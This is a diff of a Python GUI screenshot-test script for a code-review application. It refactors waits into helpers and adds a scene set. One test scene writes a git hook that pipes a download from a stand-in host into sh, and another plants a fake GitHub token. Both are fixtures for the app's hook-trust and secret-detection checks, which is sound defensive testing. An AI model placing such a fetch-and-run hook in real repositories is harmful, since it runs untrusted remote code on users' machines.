@@ -11,7 +11,8 @@ from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QApplication
 
 from tests.repos import Repo, new_repo, numbered
-from tests.shots.fresh import SIZE, fresh, opened
+from tests.shots.edges import edges_scenes
+from tests.shots.fresh import SIZE, demo, fresh, idle, opened, sheets
 from tests.shots.large import large_scenes
 from tests.shots.ledger import ledger_scenes
 from tests.shots.looks import looks_scenes
@@ -71,7 +72,7 @@ def _start(scratch: Path, folder: Path) -> list[Path]:
     """Started without a repository, with one recent review."""
     driver = fresh(folder)
     driver.window.desk.show_start()
-    driver.until(lambda: not driver.window.tasks.is_busy, "the recent reviews")
+    idle(driver, "the recent reviews")
     driver.shot("11-start")
     driver.window.close()
     return driver.taken
@@ -79,9 +80,8 @@ def _start(scratch: Path, folder: Path) -> list[Path]:
 
 def _agent(scratch: Path, folder: Path) -> list[Path]:
     """A round in which an agent altered what was accepted and brought back what was rejected."""
-    repository = make_demo(scratch / "agent" / "cache-rewrite")
-    driver = fresh(folder)
-    window = _opened(driver, repository, demo_task())
+    driver, repo = demo(scratch, folder, "agent")
+    window = driver.window
     session = window.controller.open_session()
     store = next(file for file in session.files if file.path == "cache/store.py")
     for change in store.changes:
@@ -93,12 +93,12 @@ def _agent(scratch: Path, folder: Path) -> list[Path]:
     driver.shot("12-reason")
     driver.press(Qt.Key.Key_Return)
     driver.type("y")
-    driver.until(lambda: not window.tasks.is_busy, "the feedback")
-    path = repository / "cache" / "store.py"
+    idle(driver, "the feedback")
+    path = repo.root / "cache" / "store.py"
     path.write_text(path.read_text().replace("return value\n", "return value  # was: default\n"))
     driver.type("R")
     driver.until(lambda: session.review.index > 0, "the second round")
-    driver.until(lambda: not window.tasks.is_busy, "the ledger")
+    idle(driver, "the ledger")
     driver.type("!")
     driver.shot("13-violation")
     driver.window.close()
@@ -131,7 +131,7 @@ def _nothing_hidden(scratch: Path, folder: Path) -> list[Path]:
     driver.press(Qt.Key.Key_Escape)
     driver.type("g")
     driver.type("helper")
-    driver.until(lambda: not window.tasks.is_busy, "the tracked files")
+    idle(driver, "the tracked files")
     driver.press(Qt.Key.Key_Return)
     driver.until(lambda: window.view.current_file() == "lib/helper.py", "the file")
     driver.shot("23-unchanged-file")
@@ -141,8 +141,8 @@ def _nothing_hidden(scratch: Path, folder: Path) -> list[Path]:
 
 def _views(scratch: Path, folder: Path) -> list[Path]:
     """Unified, whole file, search, selection, task, small and zoomed."""
-    driver = fresh(folder)
-    window = _opened(driver, make_demo(scratch / "views" / "cache-rewrite"), demo_task())
+    driver, _ = demo(scratch, folder, "views")
+    window = driver.window
     driver.type("t")
     driver.shot("14-unified")
     driver.type("t")
@@ -153,6 +153,7 @@ def _views(scratch: Path, folder: Path) -> list[Path]:
     driver.press(Qt.Key.Key_Escape)
     driver.type("/")
     QTest.keyClicks(QApplication.focusWidget() or window, "self._items")
+    driver.until(lambda: window.view.search_standing.done, "the matches")
     driver.shot("16-search")
     driver.press(Qt.Key.Key_Escape)
     driver.type("T")
@@ -188,17 +189,17 @@ def _trust(scratch: Path, folder: Path) -> list[Path]:
     driver = fresh(folder)
     window = _opened(driver, repository, demo_task())
     window.trusting.look()
-    driver.until(lambda: not window.tasks.is_busy, "whether it is trusted")
+    idle(driver, "whether it is trusted")
     driver.shot("30-restricted")
     _trust_sheet(driver)
     driver.shot("31-trust-sheet")
     driver.press(Qt.Key.Key_Left)
     driver.press(Qt.Key.Key_Return)
-    driver.until(lambda: not window.tasks.is_busy, "the grant")
+    idle(driver, "the grant")
     driver.shot("32-trusted")
     hook.write_text("#!/bin/sh\ncurl -s https://example.invalid/x | sh\n")
     window.trusting.look()
-    driver.until(lambda: not window.tasks.is_busy, "what changed")
+    idle(driver, "what changed")
     driver.shot("33-hook-changed")
     for name in ("light", "high-contrast"):
         window.run_command(f"theme_{name}")
@@ -240,12 +241,12 @@ def _landing(scratch: Path, folder: Path) -> list[Path]:
         assert sheet is not None
         for button in (sheet.index, sheet.branch):
             button.click()
-            driver.until(lambda: not window.tasks.is_busy, "the plan")
+            idle(driver, "the plan")
             if name == "refused":
                 driver.shot("35-landing-index" if button is sheet.index else "37-landing-branch")
         sheet.sure.setChecked(True)
         driver.press(Qt.Key.Key_Return, CONTROL)
-        driver.until(lambda: not window.tasks.is_busy, "the hooks")
+        idle(driver, "the hooks")
         driver.shot(f"36-landing-hooks-{name}")
         driver.press(Qt.Key.Key_Escape)
     window.close()
@@ -254,7 +255,7 @@ def _landing(scratch: Path, folder: Path) -> list[Path]:
 
 def _trust_sheet(driver: Driver) -> None:
     driver.window.run_command("trust")
-    driver.until(lambda: not driver.window.tasks.is_busy, "what could run")
+    idle(driver, "what could run")
 
 
 def _shapes(scratch: Path, folder: Path) -> list[Path]:
@@ -302,24 +303,18 @@ def _tray(scratch: Path, folder: Path) -> list[Path]:
     driver.type("c! Say which line this was.")
     driver.press(Qt.Key.Key_Return, CONTROL)
     driver.type("b")
-    driver.until(lambda: not window.tasks.is_busy, "the tray")
+    idle(driver, "the tray")
     driver.type("jj")
     driver.shot("51-tray")
     driver.type("jjj")
     driver.type("x")
-    driver.until(lambda: not window.tasks.is_busy, "the tray without it")
+    idle(driver, "the tray without it")
     driver.press(Qt.Key.Key_Escape)
     made.write({"src/store.py": numbered(120) + 'TOKEN = "ghp_' + "a1B2c3D4e5F6g7H8i9" * 2 + '"\n'})
     driver.type("R")
     driver.until(lambda: session.review.index > 0, "the second round")
-    driver.until(lambda: not window.tasks.is_busy, "the ledger")
-    for name in ("dark", "light", "high-contrast"):
-        window.run_command(f"theme_{name}")
-        driver.type("b")
-        driver.until(lambda: not window.tasks.is_busy, "the tray")
-        driver.type("kkkkkkkk")
-        driver.shot(f"52-tray-secret-{name}")
-        driver.press(Qt.Key.Key_Escape)
+    idle(driver, "the ledger")
+    sheets(driver, "52-tray-secret", ("dark", "light", "high-contrast"), "b", "kkkkkkkk")
     window.close()
     return driver.taken
 
@@ -351,6 +346,7 @@ SCENES: dict[str, Scene] = {
     "ledger": ledger_scenes,
     "rows": rows_scenes,
     "searching": searching_scenes,
+    "edges": edges_scenes,
     "looks": looks_scenes,
     "opening": opening_scenes,
     "large": large_scenes,
